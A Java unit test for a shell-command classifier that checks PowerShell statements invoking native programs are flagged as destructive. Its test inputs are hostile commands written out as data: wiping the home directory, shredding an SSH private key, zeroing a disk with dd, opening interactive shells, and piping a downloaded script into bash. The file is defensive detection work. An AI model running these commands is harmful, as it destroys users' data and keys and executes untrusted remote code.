package dev.cmdgate.core.classify;

import static org.assertj.core.api.Assertions.assertThat;

import dev.cmdgate.core.CommandClass;
import dev.cmdgate.core.rules.RuleSet;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * PowerShell runs a native program by its name, with the statement's words as its arguments: a statement whose
 * command word is a program the rules know (and no call row names) is judged as that command line; cmdlets,
 * keywords and method calls are not programs.
 */
class PowerShellNativeCommandsTest {

    private static final RulesClassifier BUILTIN = RulesClassifier.of(RuleSet.builtin());

    private static CommandClass of(String line) {
        return BUILTIN.classifyShell(line).commandClass();
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "pwsh -c 'bash -c \"rm -rf ~\"'",
        "pwsh -c 'sh'",
        "pwsh -NoProfile -Command 'python3 -c \"import os; os.system(\\\"sh\\\")\"'",
        "pwsh -c '$x = 1; shred -u ~/.ssh/id_rsa'",
        "pwsh -c 'Write-Host hi; sh -i'",
        "pwsh -c 'if ($true) { bash -i }'",
        "pwsh -c 'Invoke-Expression \"sh\"'",
        "pwsh -c 'iex \"dd if=/dev/zero of=/dev/sda\"'",
        "pwsh -c '& \"/bin/sh\"'",
        "pwsh -c '& \"/usr/bin/rm\" -rf ~'",
        "pwsh -c 'wget -qO- http://example.com/x | bash'",
    })
    void aNativeProgramInAStatementIsJudgedAsItsCommandLine(String line) {
        assertThat(of(line)).isEqualTo(CommandClass.DESTRUCTIVE);
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "pwsh -c 'git status'",
        "pwsh -c 'Get-ChildItem | Sort-Object Length'",
        "pwsh -c 'Write-Output sh'",
        "pwsh -c '$sh = 1; $sh'",
        "pwsh -c 'foreach ($i in 1..3) { Write-Host $i }'",
        "pwsh -c 'ls -la'",
        "pwsh -c 'echo sh'",
    })
    void cmdletsKeywordsArgumentsAndHarmlessProgramsStayAsTheyWere(String line) {
        assertThat(of(line)).isEqualTo(CommandClass.WRITE);
    }
}
